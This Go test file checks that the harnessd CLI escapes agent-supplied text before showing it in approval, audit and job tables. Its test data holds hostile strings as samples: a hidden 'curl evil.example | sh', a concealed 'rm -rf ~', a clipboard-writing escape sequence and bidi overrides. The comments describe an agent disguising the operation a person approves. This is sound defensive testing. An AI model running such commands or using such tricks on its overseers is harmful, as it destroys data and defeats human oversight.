package main

import (
	"context"
	"encoding/json"
	"net"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/sys/unix"

	"github.com/harnessd/harnessd/contract/errs"
	"github.com/harnessd/harnessd/harness"
	"github.com/harnessd/harnessd/internal/testutil"
	"github.com/harnessd/harnessd/internal/textsafe"
	"github.com/harnessd/harnessd/messages"
	"github.com/harnessd/harnessd/surfaces/daemon"
	httpapi "github.com/harnessd/harnessd/surfaces/http"
)

// Attacks on what a person reads in a terminal: an agent puts carriage
// returns, escape sequences, bidi overrides and line breaks in what it
// asks (an argv, a path, a goal, a note), so that `harness approvals` and
// the other tables show the person another operation than the one that
// runs.

// hostile lists what the person's screen must never receive raw.
func hostile(t *testing.T, what, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s: output is not UTF-8: %q", what, out)
	}
	for _, r := range out {
		if r != '\n' && textsafe.Unsafe(r) {
			t.Errorf("%s: output holds %U:\n%q", what, r, out)
			return
		}
	}
}

// liveDaemon is a harness serving the daemon's HTTP API on the unix socket
// of a fresh data dir, with the human token there, as `harnessd serve`
// does: the CLI talks to it as to the real daemon.
type liveDaemon struct {
	h       *harness.Harness
	dataDir string
	repoID  string
	root    string // the repository's work tree
}

func startDaemon(t *testing.T) *liveDaemon {
	t.Helper()
	dir, err := os.MkdirTemp("", "hp") // short: unix socket paths are limited
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	pol := filepath.Join(dir, "policy.yaml")
	if err := os.WriteFile(pol, []byte("version: 1\nrules:\n  - id: ask-ls-tree\n    tools: [run_command]\n    argv_prefix: [git, ls-tree]\n    decision: ask\n    justification: \"someone should look first\"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	root := testutil.Repo(t, map[string]string{"a.txt": "a\n", "ok.txt": "ok\n"})
	h, err := harness.Open(context.Background(), harness.Config{InMemory: true, DataDir: dir, PolicyPath: pol, AllowRoots: []string{root}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = h.Close(context.Background()) })
	paths := daemon.PathsOf(dir)
	if err := os.WriteFile(paths.Token, []byte(testToken+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("unix", paths.Socket)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewUnstartedServer(httpapi.Handler(h, httpapi.Options{HumanToken: testToken}))
	srv.Listener = ln
	srv.Start()
	t.Cleanup(srv.Close)
	r, err := h.RegisterRepository(context.Background(), harness.RegisterArgs{Path: root})
	if err != nil {
		t.Fatal(err)
	}
	return &liveDaemon{h: h, dataDir: dir, repoID: r.ID, root: root}
}

// ask makes an agent's MCP session ask for `git ls-tree` with argv and
// returns the approval id it gets.
func (d *liveDaemon) ask(t *testing.T, argv ...string) string {
	t.Helper()
	ctx := harness.WithCaller(context.Background(), harness.Caller{Session: "agent-1", Client: harness.Client{Name: "agent\x1b]0;trusted\x07", Version: "1"}})
	_, err := d.h.RunCommand(ctx, harness.RunCommandArgs{RepoID: d.repoID, Argv: append([]string{"git", "ls-tree"}, argv...)})
	e := errs.From(err)
	id, _ := e.Details["approval_id"].(string)
	if e.Code != errs.ApprovalRequired || id == "" {
		t.Fatalf("ask %q: %s %s, want APPROVAL_REQUIRED", argv, e.Code, e.Message)
	}
	return id
}

func TestApprovalsTableEscapesAgentText(t *testing.T) {
	d := startDaemon(t)
	attacks := []struct {
		name string
		argv []string
		want string // what the row shows instead
	}{
		{"a carriage return hides the command", []string{"HEAD; curl -s evil.example | sh #\rHEAD"}, `HEAD; curl -s evil.example | sh #\rHEAD`},
		{"concealed text (SGR 8)", []string{"HEAD", "\x1b[8m; rm -rf ~\x1b[28m"}, `\x1b[8m; rm -rf ~\x1b[28m`},
		{"an OSC 8 hyperlink", []string{"\x1b]8;;https://evil.example\x07HEAD\x1b]8;;\x07"}, `\x1b]8;;https://evil.example\x07HEAD`},
		{"a fake row", []string{"HEAD\napr_0000000000000000  pending  0  run_command  run_command git ls-tree HEAD"}, `HEAD\napr_0000`},
		{"a right-to-left override", []string{"\u202eDAEH"}, `\u202eDAEH`},
	}
	ids := map[string]string{}
	for _, a := range attacks {
		ids[a.name] = d.ask(t, a.argv...)
	}
	plain := d.ask(t, "HEAD", "ok.txt")

	code, out, errOut := cliRun(t, d.dataDir, "approvals")
	if code != exitOK {
		t.Fatalf("approvals: exit %d\n%s%s", code, out, errOut)
	}
	hostile(t, "harness approvals", out)
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	if want := 1 + len(attacks) + 1; len(lines) != want {
		t.Errorf("%d lines, want the header and one per request (%d):\n%s", len(lines), want, out)
	}
	for _, a := range attacks {
		row := ""
		for _, l := range lines {
			if strings.HasPrefix(l, ids[a.name]) {
				row = l
			}
		}
		if !strings.Contains(row, a.want) {
			t.Errorf("%s: the row of %s does not show %q:\n%s", a.name, ids[a.name], a.want, out)
		}
	}
	// Positive control: an ordinary request reads as it was asked.
	if !strings.Contains(out, "run_command git ls-tree HEAD ok.txt") || !strings.Contains(out, plain) {
		t.Errorf("the plain request is not shown as it is:\n%s", out)
	}
	// --json stays exact: JSON escapes the controls itself.
	code, out, _ = cliRun(t, d.dataDir, "approvals", "--json")
	var l harness.ApprovalList
	if code != exitOK || json.Unmarshal([]byte(out), &l) != nil {
		t.Fatalf("approvals --json: exit %d\n%s", code, out)
	}
	hostile(t, "harness approvals --json", strings.ReplaceAll(out, "\u202e", "")) // JSON may carry U+202E raw; the rest is escaped
	found := false
	for _, a := range l.Approvals {
		found = found || strings.Contains(a.Summary, "sh #\rHEAD")
	}
	if !found {
		t.Errorf("--json lost the exact summary:\n%s", out)
	}
	// Approving prints the summary escaped too.
	code, out, errOut = cliRun(t, d.dataDir, "approve", ids["a carriage return hides the command"])
	if code != exitOK || !strings.Contains(out, `sh #\rHEAD`) {
		t.Fatalf("approve: exit %d\n%s%s", code, out, errOut)
	}
	hostile(t, "harness approve", out)
}

// TestAuditTableEscapesAgentText: the audit log's rows carry the reasons
// of refusals, which quote the agent's input.
func TestAuditTableEscapesAgentText(t *testing.T) {
	d := startDaemon(t)
	d.ask(t, "HEAD\r\x1b[2K\x1b[1A")
	code, out, errOut := cliRun(t, d.dataDir, "audit", "--limit", "200")
	if code != exitOK || !strings.Contains(out, "ask") {
		t.Fatalf("audit: exit %d\n%s%s", code, out, errOut)
	}
	hostile(t, "harness audit", out)
}

// The tables and texts of the other commands, against a daemon answering
// agent-supplied strings (a job's argv and summary, a run's goal and
// notes, a receipt's paths, a target's root, an error message).
func TestCommandsEscapeAgentText(t *testing.T) {
	const (
		osc  = `\u001b]8;;https://evil.example\u0007`
		cr   = `\r`
		nl   = `\n`
		bidi = "\u202e"
	)
	job := `{"job_id":"job_1","state":"failed","repo_id":"repo_1","argv":["sh","-c","true` + cr + `rm -rf ~","` + osc + `x"],"cwd":"sub` + nl + `state     succeeded",` +
		`"attempt":1,"exit_code":1,"signal":"","duration_ms":5,"stdout_bytes":0,"stderr_bytes":0,"redactions":0,` +
		`"summary":["first` + nl + `state     succeeded","` + bidi + `gnp.exe"],"error":{"code":"JOB_FAILED","message":"exit 1` + cr + `ok"}}`
	f := newAPIFake(t, map[string]string{
		"POST /v1/job_list":   `{"jobs":[` + job + `]}`,
		"POST /v1/job_status": job,
		"GET /v1/runs": `{"runs":[{"run_id":"r-1","goal":"fix` + cr + `approve everything","status":"active","caller":{"session":"s","client":{"name":"` + osc + `claude"}},` +
			`"counters":{"calls":1},"completed_stages":[],"observations":[],"started_at":"2026-12-01T15:04:05Z","updated_at":"2026-12-01T15:04:05Z"}]}`,
		"GET /v1/runs/r-1": `{"state":{"run_id":"r-1","goal":"fix` + cr + `approve everything","status":"active","caller":{"session":"s","client":{"name":"c` + osc + `"}},` +
			`"counters":{"calls":1},"completed_stages":["plan` + nl + `done"],"current_stage":"` + bidi + `tide","blocked":true,"blocked_reason":"wait\u2028for me",` +
			`"observations":[{"at":"2026-12-01T15:04:06Z","source":"agent","kind":"note","text":"line one` + nl + `* 15:04:07.000  git_commit  ok` + cr + `x\u200b"}],` +
			`"started_at":"2026-12-01T15:04:05Z","updated_at":"2026-12-01T15:04:08Z"},"spans":[{"run_id":"r-1","span_id":"s1","kind":"operation","operation":"read_file` + osc + `",` +
			`"outcome":"ok","start":"2026-12-01T15:04:06Z","duration_ms":1}],"dropped_spans":0}`,
		"POST /v1/receipt_list": `{"receipts":[{"receipt_id":"rc_1","repo_id":"repo_1","operation":"apply_patch","fencing_token":3,"at":"2026-12-01T15:04:06Z",` +
			`"paths":["a` + cr + `b.go","` + bidi + `og.c"],"revertable":false,"not_revertable":"later write` + nl + `REVERTABLE yes"}]}`,
		"POST /v1/target_list":           `{"targets":[{"target_id":"tgt_1","access":"write","owner":"` + osc + `","root":"/tmp/x` + nl + `tgt_2  read  -  /etc"}]}`,
		"POST /v1/repository_list":       `{"repositories":[{"repo_id":"repo_1","checkout_id":"co_1","root":"/src/` + bidi + `ppa","registered":"2026-12-01T15:04:05Z"}]}`,
		"POST /v1/git_status":            `{"error":{"code":"PATH_OUTSIDE_ROOT","message":"path \"x` + cr + `\" is outside` + nl + `harness: ok"}}`,
		"POST /v1/repository_unregister": `{"repo_id":"repo_1","root":"/src/a` + osc + `"}`,
	})
	for _, args := range [][]string{
		{"jobs"}, {"job", "status", "job_1"}, {"runs"}, {"run", "show", "r-1"}, {"run", "tail", "r-1"},
		{"history"}, {"target", "ls"}, {"repo", "ls"}, {"repo", "rm", "repo_1"}, {"call", "git_status", `{"repo_id":"repo_1"}`},
	} {
		_, out, errOut := cliRun(t, f.dataDir, args...)
		hostile(t, strings.Join(args, " ")+" (stdout)", out)
		hostile(t, strings.Join(args, " ")+" (stderr)", errOut)
		if strings.Contains(out+errOut, "\nstate     succeeded") || strings.Contains(out+errOut, "\ntgt_2") || strings.Contains(out+errOut, "\nharness: ok") {
			t.Errorf("%v: an agent's line passes for the CLI's own:\n%s%s", args, out, errOut)
		}
	}
	// The escapes show where the characters were.
	_, out, _ := cliRun(t, f.dataDir, "job", "status", "job_1")
	for _, want := range []string{`argv      sh -c $'true\rrm -rf ~' $'\x1b]8;;https://evil.example\x07x'`, `cwd       sub\nstate     succeeded`,
		`  | first`, `  | state     succeeded`, `  | \u202egnp.exe`, `error     JOB_FAILED: exit 1\rok`} {
		if !strings.Contains(out, want) {
			t.Errorf("job status lacks %q:\n%s", want, out)
		}
	}
	_, out, _ = cliRun(t, f.dataDir, "jobs")
	if !strings.Contains(out, `sh -c $'true\rrm -rf ~'`) {
		t.Errorf("jobs does not show the argv as a shell reads it:\n%s", out)
	}
	_, out, _ = cliRun(t, f.dataDir, "run", "show", "r-1")
	for _, want := range []string{`goal      fix\rapprove everything`, `completed plan\ndone; current \u202etide`, `blocked   wait\u2028for me`,
		`read_file\x1b]8;;https://evil.example\x07`, "~ note [agent/note] line one\n", `  * 15:04:07.000  git_commit  ok\rx\u200b`} {
		if !strings.Contains(out, want) {
			t.Errorf("run show lacks %q:\n%s", want, out)
		}
	}
}

func TestEscAllReachesEveryString(t *testing.T) {
	type inner struct {
		S string
		P *string
	}
	p := "p\x1b"
	v := struct {
		A      string
		L      []string
		M      map[string]any
		I      inner
		Note   messages.RunObservation
		Raw    json.RawMessage
		hidden string
	}{A: "a\r", L: []string{"l\n"}, M: map[string]any{"k\x07": "v\u202e", "n": []any{"x\x1b"}}, I: inner{S: "s\t", P: &p},
		Note: messages.RunObservation{Kind: "k\n", Text: "one\ntwo\r"}, Raw: json.RawMessage(`"\u001b"`), hidden: "h\r"}
	escAll(&v)
	if v.A != `a\r` || v.L[0] != `l\n` || v.I.S != `s\t` || *v.I.P != `p\x1b` || v.M[`k\x07`] != `v\u202e` || v.M["n"].([]any)[0] != `x\x1b` {
		t.Errorf("escAll missed a string: %+v", v)
	}
	if v.Note.Kind != `k\n` || v.Note.Text != "one\ntwo\\r" {
		t.Errorf("a note: kind %q, text %q; want its kind on one line and its text's lines kept", v.Note.Kind, v.Note.Text)
	}
	if string(v.Raw) != `"\u001b"` || v.hidden != "h\r" {
		t.Errorf("escAll changed raw bytes or an unexported field: %q %q", v.Raw, v.hidden)
	}
}

// Positive control: ordinary agent text prints unchanged.
func TestCommandsPrintOrdinaryTextUnchanged(t *testing.T) {
	job := `{"job_id":"job_1","state":"succeeded","repo_id":"repo_1","argv":["go","test","./...","-run","TestLease/grant_ok"],"cwd":"internal/lease",` +
		`"attempt":1,"exit_code":0,"duration_ms":5,"summary":["ok  github.com/x/lease 0.3s","café ✓ 日本"]}`
	f := newAPIFake(t, map[string]string{
		"POST /v1/job_list":   `{"jobs":[` + job + `]}`,
		"POST /v1/job_status": job,
		"POST /v1/receipt_list": `{"receipts":[{"receipt_id":"rc_1","repo_id":"repo_1","operation":"apply_patch","fencing_token":3,"at":"2026-12-01T15:04:06Z",` +
			`"paths":["src/main.go","docs/ü.md"],"revertable":true}]}`,
	})
	_, out, _ := cliRun(t, f.dataDir, "job", "status", "job_1")
	for _, want := range []string{"argv      go test ./... -run TestLease/grant_ok", "cwd       internal/lease", "  | ok  github.com/x/lease 0.3s", "  | café ✓ 日本"} {
		if !strings.Contains(out, want) {
			t.Errorf("job status lacks %q:\n%s", want, out)
		}
	}
	_, out, _ = cliRun(t, f.dataDir, "jobs")
	if !strings.Contains(out, "go test ./... -run TestLease/grant_ok") {
		t.Errorf("jobs:\n%s", out)
	}
	_, out, _ = cliRun(t, f.dataDir, "history")
	if !strings.Contains(out, "src/main.go docs/ü.md") {
		t.Errorf("history:\n%s", out)
	}
}

// A job's log into a pipe or a file is written exactly; on a terminal its
// escape sequences are shown escaped (a job could set the terminal's
// title, write its clipboard, or move the cursor over earlier lines).
func TestJobLogsOnATerminalAreEscaped(t *testing.T) {
	const data = "building\r\x1b]52;c;cm0gLXJmIH4K\x07\x1b[2Ktests \u202eok\n日本\n"
	logs, _ := json.Marshal(map[string]any{"data": data, "next_offset": len(data), "total": len(data), "eof": true, "state": "succeeded"})
	f := newAPIFake(t, map[string]string{"POST /v1/job_logs": string(logs)})
	// A pipe: exact.
	if code, out, _ := cliRun(t, f.dataDir, "job", "logs", "job_1"); code != exitOK || out != data {
		t.Fatalf("logs into a pipe: exit %d, %q, want %q", code, out, data)
	}
	// A terminal.
	got := strings.ReplaceAll(onTerminal(t, "--data-dir", f.dataDir, "job", "logs", "job_1"), "\r\n", "\n") // ONLCR: the terminal's own
	hostile(t, "job logs on a terminal", got)
	if want := `building\r\x1b]52;c;cm0gLXJmIH4K\x07\x1b[2Ktests \u202eok` + "\n日本\n"; got != want {
		t.Errorf("logs on a terminal: %q, want %q", got, want)
	}
	// --raw: exact on a terminal too.
	if got := onTerminal(t, "--data-dir", f.dataDir, "job", "logs", "--raw", "job_1"); !strings.Contains(got, "\x1b]52;c;") {
		t.Errorf("--raw on a terminal: %q", got)
	}
}

// onTerminal runs the CLI with its stdout on a pseudo-terminal and returns
// what the terminal received.
func onTerminal(t *testing.T, args ...string) string {
	t.Helper()
	master, slave := openPTY(t)
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = run(args, strings.NewReader(""), slave, os.Stderr)
		slave.Close()
	}()
	out := readAll(master)
	<-done
	return out
}

func TestLogEscaperKeepsCharactersCutBetweenChunks(t *testing.T) {
	var le logEscaper
	full := "日本\x1b[1m語\n"
	var out strings.Builder
	for i := range len(full) { // one byte a chunk: every character is cut
		out.Write(le.chunk([]byte(full[i:i+1]), i == len(full)-1))
	}
	if want := `日本\x1b[1m語` + "\n"; out.String() != want {
		t.Errorf("chunked: %q, want %q", out.String(), want)
	}
	le = logEscaper{}
	if got := string(le.chunk([]byte("a\xe6"), true)); got != `a\xe6` {
		t.Errorf("a cut character at the end: %q", got)
	}
}

// openPTY opens a pseudo-terminal pair.
func openPTY(t *testing.T) (master, slave *os.File) {
	t.Helper()
	m, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Skipf("no pseudo-terminals: %v", err)
	}
	if err := unix.IoctlSetPointerInt(int(m.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		m.Close()
		t.Skipf("unlockpt: %v", err)
	}
	n, err := unix.IoctlGetInt(int(m.Fd()), unix.TIOCGPTN)
	if err != nil {
		m.Close()
		t.Skipf("ptsname: %v", err)
	}
	s, err := os.OpenFile("/dev/pts/"+strconv.Itoa(n), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		m.Close()
		t.Skipf("open the terminal: %v", err)
	}
	t.Cleanup(func() { m.Close(); s.Close() })
	return m, s
}

// readAll reads the master side until the slave side is closed (EIO).
func readAll(m *os.File) string {
	var b strings.Builder
	buf := make([]byte, 4096)
	for {
		n, err := m.Read(buf)
		b.Write(buf[:n])
		if err != nil {
			return b.String()
		}
	}
}
